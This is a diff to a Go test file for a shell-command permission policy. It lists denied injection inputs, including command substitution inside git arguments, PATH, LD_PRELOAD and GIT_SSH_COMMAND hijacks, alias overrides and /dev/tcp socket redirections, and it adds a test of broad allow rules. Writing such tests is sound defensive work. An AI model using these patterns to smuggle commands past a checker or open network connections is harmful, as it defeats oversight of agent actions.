@@ -47,10 +47,10 @@ var deniedCommands = []string{
 	`git status&evil`, `evil; git status`, `(git status; evil)`, `{ git status; evil; }`, `git log $(evil)`, "git log `evil`", `git log "$(evil)"`,
 	"git log \"`evil`\"", `git log ${x:-$(evil)}`, `git log <(evil)`, `git log >(evil)`, `git log $((x[$(evil)]))`, `git log ${x[$(evil)]}`,
 	`if evil; then ls; fi`, `if ls; then evil; fi`, `while evil; do ls; done`, `for x in $(evil); do ls; done`, `case $(evil) in *) ls;; esac`,
-	`ls <<EOF` + "\n$(evil)\nEOF", `cat <<< "$(evil)"`, "ls #\nevil", "ls \\\n; evil", `! evil`, `coproc evil`, `echo $(echo $(evil))`, "ls;\tevil",
+	`ls <<EOF` + "\n$(evil)\nEOF", `cat <<< "$(evil)"`, "ls #\nevil", "ls \\\n; evil", `! evil`, `coproc evil`, `echo $(echo $(evil))`, "echo `ls`", "ls;\tevil",
 	"ls\r\nevil", "ls \x00 evil", "ls\u00a0\xffevil", `time evil`, `[[ -n $(evil) ]]`, `[[ a[$(evil)] -eq 1 ]]`, `(( a[$(evil)] ))`, `let 'a[$(evil)]=1'`,
 	// Where shells read differently.
-	`echo $'a\'; evil #'`, `echo $'\' ; evil ; echo \''`, `echo $"a$(evil)"`, `ls &>file`, `ls |& evil`, `function ls { evil; }; ls`, `echo ${x@P}`, `echo ${!x}`,
+	`echo $'a'`, `echo $"a"`, `echo $'a\'; evil #'`, `echo $'\' ; evil ; echo \''`, `echo $"a$(evil)"`, `ls &>file`, `ls |& evil`, `function ls { evil; }; ls`, `echo ${x@P}`, `echo ${!x}`,
 	// What changes what a name stands for.
 	`PATH=/tmp ls`, `PATH=/tmp; ls`, `LD_PRELOAD=/tmp/x.so ls`, `GIT_SSH_COMMAND=evil git fetch origin`, `export PATH=/tmp`, `export PATH=/tmp && ls`,
 	`declare -x PATH=/tmp`, `ls() { evil; }; ls`, `alias ls=evil; ls`, "alias ls=evil\nls", `for PATH in /tmp; do ls; done`, `read PATH`, `unset PATH`,
@@ -73,7 +73,7 @@ var deniedCommands = []string{
 	`echo &>/dev/null x`, `ls >file`, `ls >>file`, `ls >|file`, `ls <>file`, `ls 2>file`, `>file`, `ls >$x`, `ls >/dev/../etc/x`, `ls >&file`, `ls >/dev/tcp/h/1`, `cat </dev/tcp/h/1`,
 	`cat <//dev/./tcp/h/1`, `cat <"$x"`, `exec 3<>/dev/tcp/h/1`, `ls {fd}>/dev/null`, `cat <$(evil)`, `cat </tmp/../dev/tcp/h/1`,
 	// Nothing, broken, too much.
-	``, ` `, `#`, `ls (`, `ls "`, `ls $(`, `ls &&`, `ls &`, `ls ${`, "ls '", `ls $((`, `x=1`, `ls; }`, strings.Repeat("(", 20000), "ls " + strings.Repeat("a", maxCommand),
+	``, ` `, `#`, `ls (`, `ls "`, `ls $(`, `ls &&`, `ls &`, `ls ${`, "ls '", `ls $((`, `x=1`, `ls; }`, strings.Repeat("(", 15000), "ls " + strings.Repeat("a", maxCommand),
 }
 
 // Whatever is allowed by name contains nothing else.
@@ -257,6 +257,23 @@ func TestDenyFindsCommands(t *testing.T) {
 	}
 }
 
+// A rule for all that a program does is none for what its options run.
+func TestBroadRules(t *testing.T) {
+	p := mustNew(t, Rules{Allow: []string{"shell:git *", "shell:cd *", "shell:* --version"}})
+	for text, want := range map[string]Action{
+		`git push origin main`: Allow, `git -c core.pager=evil log`: Ask, `git -C /tmp log`: Ask, `git $x`: Ask, `git "$x" y`: Ask, `cd x && git push`: Allow,
+		`make --version`: Allow, `$x --version`: Ask, `sh --version`: Ask, `/tmp/x --version`: Allow,
+	} {
+		if v := p.Judge("shell", command(text)); v.Action != want {
+			t.Errorf("%s: %+v", text, v)
+		}
+	}
+	p.Consent("shell", command("make test"))
+	if v := p.Judge("shell", command("cd x && make test")); v.Action != Ask {
+		t.Errorf("%+v", v)
+	}
+}
+
 // Words within words within words end.
 func TestNestedCommandsEnd(t *testing.T) {
 	text := "rm x"
@@ -267,7 +284,7 @@ func TestNestedCommandsEnd(t *testing.T) {
 	if v := p.Judge("shell", command(text)); v.Action == Allow {
 		t.Errorf("%+v", v)
 	}
-	if v := p.Judge("shell", command(strings.Repeat("sudo ", 5000)+"ls")); v.Action != Allow {
+	if v := p.Judge("shell", command(strings.Repeat("sudo ", 3000)+"ls")); v.Action != Allow {
 		t.Errorf("%+v", v)
 	}
 }
